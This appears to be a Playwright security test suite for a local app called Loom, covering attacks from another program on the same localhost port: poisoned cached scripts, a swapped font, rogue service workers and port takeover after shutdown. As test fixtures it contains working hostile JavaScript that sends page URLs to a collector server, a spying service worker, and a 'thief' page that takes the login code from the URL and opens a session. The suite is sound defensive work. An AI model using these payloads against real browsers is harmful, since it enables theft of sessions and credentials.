// Another program that had Loom's port before, or takes it afterwards, and what it may have left in the browser.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { readdirSync, readFileSync } from 'node:fs';
import type { AddressInfo, Socket } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { WebSocketServer } from 'ws';
import { expect, test, type Page } from '@playwright/test';
import { Daemon } from '../support/daemon.ts';

const built = fileURLToPath(new URL('../../dist/web', import.meta.url));
const assets = readdirSync(join(built, 'assets')).map((name) => `/assets/${name}`);
const later = assets.find((name) => name.includes('estimator')) ?? '';
/** What settings and the palette share, named before settings themselves. */
const shared = /data-later="settings" href="([^"]+)"/.exec(readFileSync(join(built, 'index.html'), 'utf8'))?.[1] ?? '';
const fonts = assets.filter((name) => name.endsWith('.woff2'));
const script = assets.find((name) => /\/index-.*\.js$/.test(name)) ?? '';

type Answer = (request: IncomingMessage, response: ServerResponse) => void;

interface Session {
  readonly sid: string;
  readonly key: string;
}

/** A program on a port of this computer. */
class Squatter {
  readonly #server: Server;
  readonly #sockets = new Set<Socket>();
  port = 0;

  private constructor(answer: Answer) {
    this.#server = createServer(answer);
    this.#server.on('connection', (socket: Socket) => this.#sockets.add(socket));
  }

  static async on(port: number, answer: Answer): Promise<Squatter> {
    const squatter = new Squatter(answer);
    await new Promise<void>((resolve) => squatter.#server.listen(port, '127.0.0.1', resolve));
    squatter.port = (squatter.#server.address() as AddressInfo).port;
    return squatter;
  }

  get server(): Server {
    return this.#server;
  }

  get origin(): string {
    return `http://127.0.0.1:${this.port}`;
  }

  async leave(): Promise<void> {
    const closed = new Promise((resolve) => this.#server.close(resolve));
    for (const socket of this.#sockets) socket.destroy();
    await closed;
  }
}

function send(response: ServerResponse, type: string, body: string | Buffer, cache = 'no-store'): void {
  response.writeHead(200, { 'content-type': type, 'cache-control': cache });
  response.end(body);
}

/** Where what was stolen is brought: another port, so it answers when the first one is gone. */
async function collector(): Promise<{ brought: string[]; place: Squatter }> {
  const brought: string[] = [];
  const place = await Squatter.on(0, (request, response) => {
    brought.push(decodeURIComponent(request.url ?? ''));
    response.setHeader('access-control-allow-origin', '*');
    response.end();
  });
  return { brought, place };
}

/** Loom on the port that the squatter had. */
async function loomOn(port: number, passphrase?: string): Promise<Daemon> {
  const daemon = new Daemon('ann', ['--port', String(port)]);
  running.push(daemon);
  await daemon.start();
  if (passphrase !== undefined) {
    await daemon.ask((control) => control.request('identity.create', { name: 'Ann', passphrase }));
  }
  return daemon;
}

const running: Daemon[] = [];
test.afterEach(async () => {
  for (const daemon of running.splice(0)) await daemon.remove();
});

const expectIn = (page: Page): Promise<void> => expect(page.getByRole('button', { name: 'Add contact' })).toBeVisible();

test('assets left in the cache under the names of Loom’s own are not run', async ({ page }) => {
  const { brought, place } = await collector();
  const steal = `fetch('${place.origin}/' + encodeURIComponent(location.href), { mode: 'no-cors' });`;
  const squatter = await Squatter.on(0, (request, response) => {
    const year = 'public, max-age=31536000, immutable';
    if (request.url?.endsWith('.js')) send(response, 'text/javascript', steal, year);
    else send(response, 'text/html', `<!doctype html><script src="${script}"></script>`);
  });
  await page.goto(squatter.origin);
  await expect.poll(() => brought.length).toBe(1);
  await page.goto('about:blank');
  await squatter.leave();

  const daemon = await loomOn(squatter.port, '');
  const url = await daemon.url();
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  await page.goto(url);
  await expect.poll(() => said.some((text) => text.includes('integrity'))).toBe(true);
  // The person asks for the page past the cache, as browsers do with Shift, and is in.
  const devtools = await page.context().newCDPSession(page);
  await devtools.send('Page.reload', { ignoreCache: true });
  await expectIn(page);
  expect(brought).toHaveLength(1);
  await place.leave();
});

test('nor are those that Loom loads later', { tag: '@slow' }, async ({ page }) => {
  const { brought, place } = await collector();
  const steal = `fetch('${place.origin}/stolen', { mode: 'no-cors' });`;
  const squatter = await Squatter.on(0, (request, response) => {
    const year = 'public, max-age=31536000, immutable';
    const [font = '', other = ''] = fonts;
    if (request.url === later) send(response, 'text/javascript', steal, year);
    // A font that is one, but another: it would draw other letters.
    else if (request.url === font) send(response, 'font/woff2', readFileSync(join(built, other)), year);
    else send(response, 'text/html', `<script type="module">await fetch('${font}'); import('${later}');</script>`);
  });
  await page.goto(squatter.origin);
  await expect.poll(() => brought.length).toBe(1);
  await page.goto('about:blank');
  await squatter.leave();

  const daemon = await loomOn(squatter.port);
  await page.goto(await daemon.url());
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  const passphrase = page.getByRole('textbox', { name: 'Passphrase' });
  await passphrase.fill('correct horse');
  await expect.poll(() => said.some((text) => text.includes('integrity'))).toBe(true);
  await expect.poll(() => page.evaluate(() => document.fonts.size)).toBe(fonts.length - 1);
  // A passphrase is chosen all the same, unjudged.
  await page.getByRole('textbox', { name: 'Your name' }).fill('Ann');
  await page.getByRole('button', { name: 'Create my identity' }).click();
  await expectIn(page);
  expect(brought).toHaveLength(1);
  await place.leave();
});

test('nor what several of those share', { tag: '@slow' }, async ({ page }) => {
  const { brought, place } = await collector();
  const steal = `fetch('${place.origin}/stolen', { mode: 'no-cors' });`;
  const squatter = await Squatter.on(0, (request, response) => {
    if (request.url === shared) send(response, 'text/javascript', steal, 'public, max-age=31536000, immutable');
    else send(response, 'text/html', `<script type="module">import('${shared}');</script>`);
  });
  await page.goto(squatter.origin);
  await expect.poll(() => brought.length).toBe(1);
  await page.goto('about:blank');
  await squatter.leave();

  const daemon = await loomOn(squatter.port);
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  await page.goto(await daemon.url());
  await page.getByRole('textbox', { name: 'Your name' }).fill('Ann');
  await page.getByRole('button', { name: 'Create my identity' }).click();
  await expectIn(page);
  await expect.poll(() => said.some((text) => text.includes('integrity') && text.includes(shared))).toBe(true);
  await page.getByRole('button', { name: 'You', exact: true }).click();
  await page.getByRole('link', { name: 'Settings' }).click();
  await expect(page.getByRole('heading', { name: /^Hello/ })).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Settings' })).toHaveCount(0);
  expect(brought).toHaveLength(1);
  await place.leave();
});

// It answers navigations itself when it may, and tells the collector all it sees. It cannot be kept from seeing the first
// address that is opened, so what it saw must be worth nothing.
const worker = (collectorOrigin: string, shell: string | null): string => `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    fetch('${collectorOrigin}/' + encodeURIComponent(event.request.url), { mode: 'no-cors' });
    const shell = ${JSON.stringify(shell)};
    if (shell === null || event.request.mode !== 'navigate') return;
    event.respondWith(new Response(shell, { headers: { 'content-type': 'text/html' } }));
  });`;

/** A page in place of Loom's that uses the code at once, and stays in as long as it can. */
const thief = (collectorOrigin: string): string => `<!doctype html><title>thief</title><script type="module">
  const tell = (text) => fetch('${collectorOrigin}/' + encodeURIComponent(text), { mode: 'no-cors' });
  const [, code] = location.hash.split('=');
  const reply = await fetch('/api/session', {
    method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ code }) });
  if (!reply.ok) tell('refused ' + reply.status);
  else {
    const { sid, key } = await reply.json();
    const bytes = (hex) => Uint8Array.from(hex.match(/../g), (two) => parseInt(two, 16));
    const hmac = await crypto.subtle.importKey('raw', bytes(key), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
    const socket = new WebSocket('ws://' + location.host + '/ws');
    socket.onmessage = async ({ data }) => {
      const { ns, mac } = JSON.parse(data);
      if (mac) tell('in');
      if (!ns) return;
      const parts = [...new TextEncoder().encode('loom-ws-c'), ...bytes(ns), ...new Uint8Array(32), ...new TextEncoder().encode(origin)];
      const proof = new Uint8Array(await crypto.subtle.sign('HMAC', hmac, new Uint8Array(parts)));
      socket.send(JSON.stringify({ sid, nc: '00'.repeat(32), mac: [...proof].map((b) => b.toString(16).padStart(2, '0')).join('') }));
    };
    socket.onclose = ({ code }) => tell('closed ' + code);
  }
</script>`;

for (const kind of ['stands in for Loom', 'looks on'] as const) {
  test(
    `a service worker left over that ${kind} is gone after one visit, and what it saw is void`,
    { tag: kind === 'looks on' ? '@slow' : [] },
    async ({ page }) => {
      const { brought, place } = await collector();
      const shell = kind === 'looks on' ? null : thief(place.origin);
      const squatter = await Squatter.on(0, (request, response) => {
        if (request.url === '/sw.js') send(response, 'text/javascript', worker(place.origin, shell));
        else send(response, 'text/html', `<!doctype html><script>navigator.serviceWorker.register('/sw.js')</script>`);
      });
      await page.goto(squatter.origin);
      await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.state);
      await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
      await page.goto('about:blank');
      await squatter.leave();

      const daemon = await loomOn(squatter.port, '');
      const url = await daemon.url();
      await page.goto(url);
      await expect.poll(() => brought.join('\n')).toContain(new URL(url).hash);
      const registrations = (): Promise<number> =>
        page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
      await expect.poll(registrations).toBe(0);
      // Asked past the worker, as a thief elsewhere on this computer would ask.
      const reply = await fetch(`${daemon.origin}/api/session`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', origin: daemon.origin },
        body: JSON.stringify({ code: new URL(url).hash.replace('#code=', '') }),
      });
      expect(reply.status).toBe(401);
      if (kind === 'looks on') await expect(page.getByRole('button', { name: 'Add contact' })).toHaveCount(0);
      else if (brought.includes('/in')) await expect.poll(() => brought).toContain('/closed 4401');

      brought.length = 0;
      await page.goto('about:blank');
      await page.goto(await daemon.url());
      await expectIn(page);
      expect(brought).toEqual([]);
      await place.leave();
    },
  );
}

test('a program that takes the port of a Loom that ended learns nothing from a tab left open', async ({ page }) => {
  const daemon = await loomOn(0, '');
  const { port } = new URL(daemon.origin);
  await page.goto(await daemon.url());
  await expectIn(page);
  const kept = JSON.parse((await page.evaluate(() => sessionStorage.getItem('loom.session'))) ?? '') as Session;
  // All that the page loads by itself is there.
  await expect.poll(() => page.evaluate(() => document.fonts.size)).toBe(fonts.length);
  await daemon.kill();

  const heard: string[] = [];
  const requests: string[] = [];
  const squatter = await Squatter.on(Number(port), (request, response) => {
    requests.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.writeHead(404).end();
  });
  const sockets = new WebSocketServer({ server: squatter.server });
  const answers = ['a wrong proof', 'the page’s own', 'events at once', 'a refusal'];
  sockets.on('connection', (socket) => {
    const answer = answers[0] === 'a refusal' ? answers[0] : answers.shift();
    const ns = Buffer.alloc(32, heard.length).toString('hex');
    if (answer === 'events at once') socket.send(JSON.stringify({ cursor: 1, event: 'state.changed', data: {} }));
    socket.send(JSON.stringify({ ns }));
    socket.on('message', (data: Buffer) => {
      heard.push(data.toString());
      const { mac } = JSON.parse(data.toString()) as { mac: string };
      if (answer === 'a refusal') socket.close(4401);
      else socket.send(JSON.stringify({ mac: answer === 'the page’s own' ? mac : '0'.repeat(64) }));
    });
  });
  await expect(page.getByText(/is not Loom|not your Loom|someone else|another program/i).first()).toBeVisible();
  expect(heard.length).toBeGreaterThan(0);
  for (const text of heard) {
    const said = JSON.parse(text) as Record<string, string>;
    expect(Object.keys(said).sort()).toEqual(['before', 'mac', 'nc', 'sid']);
    expect(said.sid).toBe(kept.sid);
    expect(text).not.toContain(kept.key);
  }
  expect(requests).toEqual([]);
  sockets.close();
  await squatter.leave();
});
